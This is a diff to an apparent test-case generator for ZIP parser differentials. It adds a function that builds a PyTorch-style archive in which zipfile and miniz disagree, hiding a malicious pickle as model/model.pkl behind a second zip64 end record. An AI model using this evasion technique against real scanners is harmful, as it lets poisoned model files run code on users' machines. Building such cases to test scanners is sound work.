@@ -737,6 +737,7 @@ def _smuggled_record_in_gap():
 
 TELLING = {
     "eocd_comment_attack": _eocd_comment_attack,
+    "zip64_locator_attack": lambda: zip64_locator_attack(),
     "entry_count_zero": _entry_count_zero,
     "smuggled_record_in_gap": _smuggled_record_in_gap,
 }
@@ -753,3 +754,62 @@ if __name__ == "__main__":
         with open(os.path.join(target, case + ".zip"), "wb") as out:
             out.write(archive)
         print(os.path.join(target, case + ".zip"), len(archive), "bytes")
+
+
+def zip64_locator_attack(fake_pickle=None):
+    """Two zip64 end records: zipfile reads the one just before the locator
+    (it assumes no extensible data and ignores the locator's offset), miniz
+    the one the locator points to, hidden with a second central directory in
+    the data of the last record. The end record is saturated, so both defer
+    to "their" zip64 end record. The hidden directory tiles the file too:
+    its entry for notes.txt claims the carrier's local header as data, and
+    its model/model.pkl lies inside the carrier's data."""
+    fake_pickle = MALICIOUS_PICKLE if fake_pickle is None else fake_pickle
+    notes = b"release notes"
+    hidden_local = (pack_struct(LOCAL, LOCAL_SIZE, {
+        "sig": LOCAL_SIG, "version": 20, "flags": FLAG_UTF8,
+        "crc": zlib.crc32(fake_pickle), "csize": len(fake_pickle),
+        "usize": len(fake_pickle),
+        "name_len": len(b"archive/model/model.pkl")})
+        + b"archive/model/model.pkl" + fake_pickle)
+
+    def archive(carrier):
+        return build([Entry("archive/.data/version", b"6\n"),
+                      Entry("archive/.data/extern_modules", b"builtins\n"),
+                      Entry("archive/notes.txt", notes),
+                      Entry("archive/data/blob.bin", carrier)],
+                     zip64_end=True,
+                     eocd={"disk_entries": 0xFFFF, "entries": 0xFFFF,
+                           "cd_size": 0xFFFFFFFF, "cd_offset": 0xFFFFFFFF})
+
+    # The hidden directory's size does not depend on offsets: lay out once
+    # with a placeholder of the final length, then fill it in.
+    hidden_cd_len = 4 * CENTRAL_SIZE + sum(len(n) for n in (
+        b"archive/.data/version", b"archive/.data/extern_modules",
+        b"archive/notes.txt", b"archive/model/model.pkl"))
+    length = len(hidden_local) + hidden_cd_len + ZIP64_END_SIZE
+    layout = archive(bytes(length))
+    version, externs, notes_at, carrier_at = layout.entries
+    data = layout.data
+    start = carrier_at.data
+    notes_span = data[notes_at.data:start]  # notes + the carrier's header
+    central = b""
+    for name, at, payload in (
+            (b"archive/.data/version", version.local, b"6\n"),
+            (b"archive/.data/extern_modules", externs.local, b"builtins\n"),
+            (b"archive/notes.txt", notes_at.local, notes_span),
+            (b"archive/model/model.pkl", start, fake_pickle)):
+        central += pack_struct(CENTRAL, CENTRAL_SIZE, {
+            "sig": CENTRAL_SIG, "made_by": 20, "version": 20,
+            "flags": FLAG_UTF8, "crc": zlib.crc32(payload),
+            "csize": len(payload), "usize": len(payload),
+            "name_len": len(name), "offset": at}) + name
+    assert len(central) == hidden_cd_len
+    hidden_end = pack_struct(ZIP64_END, ZIP64_END_SIZE, {
+        "sig": ZIP64_END_SIG, "record_size": 44, "made_by": 0x031E,
+        "version": 0x2D, "disk_entries": 4, "entries": 4,
+        "cd_size": len(central), "cd_offset": start + len(hidden_local)})
+    carrier = hidden_local + central + hidden_end
+    layout = archive(carrier)
+    return patch(layout.data, layout.locator, LOCATOR, "offset",
+                 start + len(hidden_local) + len(central))
